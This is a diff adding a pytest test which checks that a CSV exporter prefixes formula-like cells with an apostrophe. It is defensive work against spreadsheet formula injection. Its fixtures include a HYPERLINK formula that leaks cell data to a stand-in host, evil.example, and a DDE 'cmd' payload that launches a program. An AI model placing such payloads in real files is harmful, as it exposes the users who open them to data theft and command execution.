@@ -180,6 +180,26 @@ def test_export_csv_to_a_file(
     assert list(rows[0]) == data_cmd.EXPORT_FIELDS
 
 
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"Summit")', "'=HYPERLINK"),
+        ("+cmd|' /C calc'!A0", "'+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM"),
+        ("Lee and Ishiba meet", "Lee and Ishiba meet"),
+    ],
+    ids=["equals", "plus", "minus", "at", "plain"],
+)
+def test_export_csv_cells_never_start_a_formula(text: str, cell: str) -> None:
+    out = io.StringIO()
+    record = {field: "" for field in data_cmd.EXPORT_FIELDS} | {"title": text, "types": []}
+    assert data_cmd.write_csv(iter([record]), out) == 1
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert row["title"].startswith(cell)
+    assert row["title"].removeprefix("'") == text
+
+
 def test_export_only_relevant(
     db: Database, db_url: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
